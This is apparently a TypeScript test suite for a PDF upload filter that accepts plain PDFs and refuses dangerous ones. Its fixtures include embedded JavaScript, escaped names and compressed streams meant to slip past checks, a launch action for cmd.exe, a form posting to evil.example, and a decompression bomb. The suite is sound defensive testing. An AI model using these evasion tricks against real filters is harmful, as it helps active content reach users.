import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { RuleBroken } from '../../../src/kernel/errors.js';
import { demandPlainPdf } from '../../../src/platform/files/index.js';

const page = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n';
const file = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat(
    ['%PDF-1.7\n', page, ...objects, 'trailer << /Root 1 0 R >>\n%%EOF\n'].map((part) =>
      Buffer.isBuffer(part) ? part : Buffer.from(part, 'latin1'),
    ),
  );
const stream = (dictionary: string, bytes: Buffer, lineEnd = '\n'): Buffer =>
  Buffer.concat([
    Buffer.from(`9 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream${lineEnd}`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
const packed = (objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer =>
  stream(dictionary, deflateSync(Buffer.from(objects)));
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** The name begins so many bytes before the end of a piece of 64 KB. */
const cutAt = (letters: number): Buffer => {
  const before = file('3 0 obj\n<< /X (').indexOf('/X (') + 4;
  return file(`3 0 obj\n<< /X (${'x'.repeat(65_536 - before - letters - 2)}) /J#61vaScript 4 0 R >>\nendobj\n`);
};

const drawn = (): Promise<Buffer> =>
  new Promise((resolve) => {
    const pieces: Buffer[] = [];
    const doc = new PDFDocument({ info: { Title: 'Birth certificate' } });
    doc.on('data', (piece: Buffer) => pieces.push(piece)).on('end', () => resolve(Buffer.concat(pieces)));
    doc.text('Birth certificate of Akinyi Otieno').link(50, 50, 100, 20, 'https://example.org').end();
  });

describe('a PDF that is handed in', () => {
  const plain: [string, () => Buffer | Promise<Buffer>][] = [
    ['pages alone', () => file()],
    ['a drawn one with a link', drawn],
    ['packed objects that only describe pages', () => file(packed('5 0 << /Type /Page >>'))],
    ['packed objects without a filter', () => file(stream('/Type /ObjStm /N 1', Buffer.from('5 0 << /Type /Page >>')))],
    ['an opening page', () => file('3 0 obj\n<< /OpenAction [4 0 R /Fit] >>\nendobj\n')],
    [
      'compressed pages that only look like it by chance',
      () => file(stream('/Filter /FlateDecode', deflateSync(Buffer.from(`BT (${script}) Tj ET`)))),
    ],
  ];
  for (const [what, make] of plain) it(`${what}: taken`, async () => demandPlainPdf(await make()));

  const refused: [string, Buffer][] = [
    ['a script', file(`3 0 obj\n<< /OpenAction ${script} >>\nendobj\n`)],
    ['a script under an escaped name', file('3 0 obj\n<< /S /J#61va#53cript >>\nendobj\n')],
    ['a script in packed objects', file(packed(`5 0 ${script}`))],
    [
      'a script in packed objects after a CRLF',
      file(stream('/Type /ObjStm /Filter [ /FlateDecode ]', deflateSync(Buffer.from(`5 0 ${script}`)), '\r\n')),
    ],
    [
      'a script in packed objects that end too early',
      file(
        stream('/Type/ObjStm/Filter/FlateDecode', deflateSync(Buffer.from(`5 0 ${script}${' '.repeat(500)}`)).subarray(0, -6)),
      ),
    ],
    ['a script in packed objects under an escaped name', file(packed(`5 0 ${script}`, '/Type /Obj#53tm /Filter /FlateDecode'))],
    [
      'packed objects in a way that nobody uses',
      file(stream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('00'))),
    ],
    [
      'packed objects whose dictionary is hidden',
      file(packed(`5 0 ${script}`, `/Type /ObjStm %${'x'.repeat(6000)} obj\n/Filter /FlateDecode`)),
    ],
    ['packed objects that can’t be unpacked', file(stream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('no such thing')))],
    [
      'packed objects that grow beyond measure',
      file(stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(80 * 1024 * 1024)))),
    ],
    ['a program to start', file('3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n')],
    ['a file inside', file('3 0 obj\n<< /Type /Filespec /EF << /F 4 0 R >> >>\nendobj\n')],
    ['a file beside a page', file('3 0 obj\n<< /Subtype /FileAttachment >>\nendobj\n')],
    ['a form of its own kind', file('3 0 obj\n<< /AcroForm << /XFA 8 0 R >> >>\nendobj\n')],
    ['a form that sends itself', file('3 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n')],
    ['a lock', file('3 0 obj\n<< /Encrypt 8 0 R >>\nendobj\n')],
    ...Array.from({ length: 14 }, (_, n): [string, Buffer] => [`a script whose name is cut in two after ${n} letters`, cutAt(n)]),
  ];
  for (const [what, content] of refused) {
    it(`${what}: refused with what to do`, async () => {
      await assert.rejects(
        demandPlainPdf(content),
        (error: Error) => error instanceof RuleBroken && /print it to a new PDF/.test(error.message),
      );
    });
  }

  it('of ten megabytes holds nobody else up', async (t) => {
    const large = file(stream('/Filter /DCTDecode', Buffer.alloc(10 * 1024 * 1024, Buffer.from('#a1/x<~'))));
    let longest = 0;
    let before = performance.now();
    const watch = setInterval(() => {
      longest = Math.max(longest, performance.now() - before);
      before = performance.now();
    }, 5);
    await demandPlainPdf(large);
    clearInterval(watch);
    t.diagnostic(`longest wait ${Math.round(longest)} ms`);
    assert.ok(longest < 400, `${longest} ms`);
  });
});
